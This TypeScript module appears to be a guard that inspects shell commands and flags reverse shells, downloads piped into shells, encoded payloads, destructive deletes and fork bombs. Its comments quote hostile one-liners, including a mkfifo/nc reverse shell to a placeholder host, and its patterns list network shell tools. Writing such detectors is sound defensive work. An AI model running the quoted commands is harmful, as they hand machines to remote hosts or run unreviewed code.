/**
 * Code that arrives from or talks to the network: downloads piped into a shell, reverse shells (`bash -i >&
 * /dev/tcp/…`, `nc -e`, `socat exec:`, a fifo between nc and sh), and interpreter one-liners (`python -c`, `node -e`,
 * `perl -e`, `ruby -e`, `php -r`) that delete files, shell out or open a shell on a socket.
 */
import { type Ctx, type Finding, finding, flagsOf } from './context.ts';
import { deleteVerdict, type Place } from './paths.ts';
import { base, parseShell, unwrap, type Command } from './shell.ts';

export const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'fish', 'ash', 'mksh', 'csh', 'tcsh']);
export const INTERPRETERS =
  /^(?:python[0-9.]*|pypy3?|perl|ruby|node|nodejs|deno|bun|php|lua[0-9.]*|pwsh|powershell|osascript)$/;
const DOWNLOADERS = /^(?:curl|wget|fetch|aria2c|http|https|xh|curlie|iwr|irm|invoke-webrequest|invoke-restmethod)$/i;
const NET_CLIENTS = /^(?:nc|ncat|netcat|telnet|socat|cryptcat|openssl)$/;
const FETCH_HINT =
  'Download the script to a file, read it, then run it explicitly (or ask the user to run the installer).';
const SHELL_HINT = 'Do not open a shell for a remote host; ask the user what they need.';

/** True when a shell or interpreter in this position would execute what arrives on its stdin. */
export function runsStdin(words: string[]): boolean {
  const name = base(words[0] ?? '');
  const { short, long, rest } = flagsOf(words.slice(1));
  if (SHELLS.has(name)) return !short.includes('c') && (short.includes('s') || rest.length === 0 || rest[0] === '-');
  if (INTERPRETERS.test(name))
    return (
      !/[cemr]/.test(short) &&
      !long.some((l) => /^--(?:eval|print|command)/.test(l)) &&
      (rest.length === 0 || rest[0] === '-')
    );
  return false;
}

const fetches = (text: string) =>
  parseShell(text).pipelines.some((p) => p.some((c) => DOWNLOADERS.test(base(unwrap(c.words)[0] ?? ''))));

export function checkPipeline(pipeline: Command[]): Finding | undefined {
  let fetched = false;
  let net = false;
  let shell = false;
  let decoded = false;
  for (const c of pipeline) {
    const w = unwrap(c.words);
    const name = base(w[0] ?? '');
    if (fetched && (runsStdin(w) || /^(?:iex|invoke-expression)$/i.test(name)))
      return finding(
        'pipe-to-shell',
        'pipe-to-shell',
        `remote content piped into ${name} runs unreviewed code`,
        FETCH_HINT,
      );
    if (decoded && runsStdin(w))
      return finding(
        'pipe-to-shell',
        'decode-to-shell',
        `decoded text piped into ${name} runs code no one can read in the command`,
        'Run the plain command instead of an encoded one.',
      );
    if (DOWNLOADERS.test(name)) fetched = true;
    if (
      (name === 'base64' && w.some((a) => /^(?:-d|-D|--decode)$/.test(a))) ||
      (name === 'xxd' && w.includes('-r')) ||
      (name === 'openssl' && w.includes('-d'))
    )
      decoded = true;
    if (NET_CLIENTS.test(name) && (name !== 'openssl' || w[1] === 's_client')) net = true;
    // `nc host 1 | python3`: an interpreter reading the connection runs what the remote host sends, like a shell.
    if (runsStdin(w)) shell = true;
    if (SHELLS.has(name) || INTERPRETERS.test(name) || name === 'source' || name === '.' || name === 'eval') {
      // `bash <(curl …)`, `sh -c "$(curl …)"`, `python3 -c "$(curl …)"`, `source <(curl …)`
      for (const arg of w.slice(1)) {
        const inner = /^[<]\((.*)\)$/s.exec(arg)?.[1] ?? /\$\((.*)\)|`(.*)`/s.exec(arg)?.slice(1).find(Boolean);
        if (inner && fetches(inner))
          return finding(
            'pipe-to-shell',
            'run-download',
            `${name} runs a script downloaded on the fly (${arg.slice(0, 60)})`,
            FETCH_HINT,
          );
      }
    }
  }
  // `mkfifo f; cat f | sh -i 2>&1 | nc host 4444 > f`, `nc host 1 | sh | nc host 2`
  if (net && shell)
    return finding(
      'reverse-shell',
      'net-pipe-shell',
      'a shell wired to a network connection gives a remote host control of this machine',
      SHELL_HINT,
    );
  return undefined;
}

/** Reverse shells in one command: /dev/tcp redirections of a shell, `nc -e`, `socat exec:`. */
export function checkReverseShell(w: string[], c: Command): Finding | undefined {
  const name = base(w[0] ?? '');
  const socket = c.redirects.find((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target));
  if (socket && (SHELLS.has(name) || INTERPRETERS.test(name) || socket.op === '<>'))
    return finding(
      'reverse-shell',
      'dev-tcp',
      `${name || 'exec'} with its input or output on ${socket.target} hands a shell to a remote host`,
      SHELL_HINT,
    );
  if (/^(?:nc|ncat|netcat|cryptcat)$/.test(name)) {
    const { short, long } = flagsOf(w.slice(1));
    if (/[ec]/.test(short) || long.some((l) => /^--(?:exec|sh-exec|lua-exec)/.test(l)))
      return finding('reverse-shell', 'nc-exec', `${name} -e runs a program for whoever connects`, SHELL_HINT);
  }
  if (name === 'socat' && w.slice(1).some((a) => /(?:^|[,!])(?:exec|system):/i.test(a)))
    return finding('reverse-shell', 'socat-exec', 'socat exec: connects a program to a network socket', SHELL_HINT);
  return undefined;
}

const VALUED = /^(?:-[WXI]|--(?:require|import|loader|experimental-loader|env-file|conditions|input-type))$/;
const PWSH_VALUED =
  /^-(?:ExecutionPolicy|ep|WindowStyle|OutputFormat|InputFormat|WorkingDirectory|wd|ConfigurationName)$/i;

/** The inline program of an interpreter call (`python -c CODE`, `node -e CODE`, `php -r CODE`, `deno eval CODE`). */
export function inlineCode(w: string[], c: Command): string | undefined {
  const name = base(w[0] ?? '');
  if (!INTERPRETERS.test(name) && !/^g?awk$/.test(name)) return undefined;
  if (/^g?awk$/.test(name)) return w.slice(1).find((a) => !a.startsWith('-'));
  if (name === 'deno' && w[1] === 'eval') return w[2];
  const pwsh = /^(?:pwsh|powershell)$/.test(name);
  for (let j = 1; j < w.length; j++) {
    const a = w[j]!;
    // Options that take a value (`python3 -W ignore -c`, `node -r dotenv/config -e`, `pwsh -ExecutionPolicy Bypass`).
    if (pwsh ? PWSH_VALUED.test(a) : VALUED.test(a) || (a === '-r' && /^(?:node|nodejs|bun)$/.test(name))) {
      j++;
      continue;
    }
    // PowerShell's options are words (`-NoProfile`): only -Command (-c) takes the code, the rest of the line.
    if (pwsh && /^-(?:command|c)$/i.test(a)) return w.slice(j + 1).join(' ');
    if (
      !pwsh &&
      (/^-[A-Za-z]*[cer]$/.test(a) || /^--(?:eval|print|command)$/.test(a) || (a === '-E' && name === 'perl'))
    )
      return w[j + 1];
    const eq = /^--(?:eval|command)=(.*)$/s.exec(a);
    if (eq) return eq[1];
    if (!a.startsWith('-')) break;
  }
  return runsStdin(w) ? c.stdin : undefined;
}

const DELETE_CALL =
  /(?:\b(?:shutil\.rmtree|rmtree|os\.(?:remove|unlink|rmdir|removedirs)|rimraf(?:\.sync)?|Deno\.remove|FileUtils\.(?:rm_rf|rm_r|rm_f|rm|remove_dir|remove_entry(?:_secure)?|remove)|File\.(?:delete|unlink)|Dir\.(?:delete|rmdir|unlink)|remove_tree|unlink|rmdir|File::Path::rmtree)|\.(?:rmSync|rmdirSync|unlinkSync|rm|rmdir|unlink|emptyDirSync|removeSync))\s*\(?\s*/g;
const HOME_EXPR =
  /^(?:os\.path\.expanduser\(\s*['"]~['"]\s*\)|os\.environ\[\s*['"]HOME['"]\s*\]|os\.getenv\(\s*['"]HOME['"]\s*\)|(?:pathlib\.)?Path\.home\(\)|(?:require\(\s*['"](?:node:)?os['"]\s*\)|os)\.homedir\(\)|process\.env\.HOME|process\.env\[\s*['"]HOME['"]\s*\]|ENV\[\s*['"]HOME['"]\s*\]|Dir\.home|\$ENV\{\s*['"]?HOME['"]?\s*\}|Deno\.env\.get\(\s*['"]HOME['"]\s*\)|getenv\(\s*['"]HOME['"]\s*\))/;
const SHELL_CALL =
  /\b(?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)|(?:child_process\.)?(?:execSync|exec|execFileSync|spawnSync|spawn)|system|shell_exec|passthru|popen|proc_open|IO\.popen|Open3\.\w+|%x)\s*\(\s*/g;

/** String literals at the start of an argument list: `('a', "b")` → a, b; a list `(['rm', '-rf', '/'])` joined. */
function literalArgs(code: string, from: number): string[] {
  const out: string[] = [];
  const re = /\s*\[?\s*(?:[rbuf]?(['"`])((?:\\.|(?!\1).)*)\1)\s*,?/y;
  re.lastIndex = from;
  for (let m = re.exec(code); m && out.length < 12; m = re.exec(code)) out.push(m[2]!.replace(/\\(.)/g, '$1'));
  return out;
}

/** Deletes, shell-outs and reverse shells inside interpreter code. */
export function checkCode(name: string, code: string, place: Place, ctx: Ctx): Finding[] {
  const out: Finding[] = [];
  const text = code.length > 20_000 ? code.slice(0, 20_000) : code;
  for (const m of text.matchAll(DELETE_CALL)) {
    const at = m.index! + m[0].length;
    const rest = text
      .slice(at, at + 200)
      .replace(/^(?:(?:pathlib\.)?Path|File\.expand_path|path\.resolve|Pathname\.new|glob|Dir\.glob)\(\s*/, '');
    const home = HOME_EXPR.exec(rest);
    const target = home ? '~' : literalArgs(rest, 0)[0];
    const what = target !== undefined && target !== '' ? deleteVerdict(target, place, ctx) : undefined;
    if (what)
      out.push(
        finding(
          'destructive-delete',
          'interpreter-delete',
          `${name} code ${m[0].trim().replace(/\($/, '')}(${target}) would delete ${what}`,
          'Delete only the specific build or cache directory inside the project you mean, or ask the user.',
        ),
      );
  }
  for (const m of text.matchAll(SHELL_CALL)) {
    const args = literalArgs(text, m.index! + m[0].length);
    if (!args.length) continue;
    const cmd = args.length > 1 && !/\s/.test(args[0]!) ? args.join(' ') : args[0]!;
    out.push(...ctx.recurse(cmd, place));
  }
  // Backticks run a shell command in Perl and Ruby (in JavaScript they are template strings).
  if (name === 'perl' || name === 'ruby')
    for (const b of text.matchAll(/`([^`]{1,2000})`/g)) out.push(...ctx.recurse(b[1]!, place));
  const socket =
    /\bsocket\b|TCPSocket|fsockopen|IO::Socket|\/inet\/(?:tcp|udp)\/|net\.(?:connect|createConnection|Socket)|require\(\s*['"](?:node:)?net['"]\s*\)|new\s+Socket|Deno\.connect/.test(
      text,
    );
  const spawnsShell =
    /\/bin\/(?:ba|z|k|da)?sh\b|\bcmd\.exe\b|pty\.spawn|\bdup2\b|['"](?:ba|z)?sh['"]\s*,\s*\[?\s*['"]-i|\|&/.test(text);
  if (
    /\b(?:iex|Invoke-Expression)\b/i.test(text) &&
    /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|DownloadFile)\b/i.test(text)
  )
    out.push(
      finding(
        'pipe-to-shell',
        'powershell-iex-download',
        `${name} runs a script downloaded on the fly (iex of a web request)`,
        'Download the script to a file, read it, then run it explicitly (or ask the user).',
      ),
    );
  if (socket && spawnsShell)
    out.push(
      finding(
        'reverse-shell',
        'interpreter-reverse-shell',
        `${name} code opens a socket and hands it a shell`,
        SHELL_HINT,
      ),
    );
  if (
    /\bfork\s+while\s+fork\b|while\s*(?:\(\s*(?:1|true)\s*\)|True\s*:|true)\s*[{:]?\s*(?:os\.)?fork\b|\bfork\s*\(\s*\)\s*while/.test(
      text,
    )
  )
    out.push(
      finding(
        'fork-bomb',
        'interpreter-fork-bomb',
        `${name} code forks without end and exhausts the machine's processes`,
        'Remove it.',
      ),
    );
  return out;
}
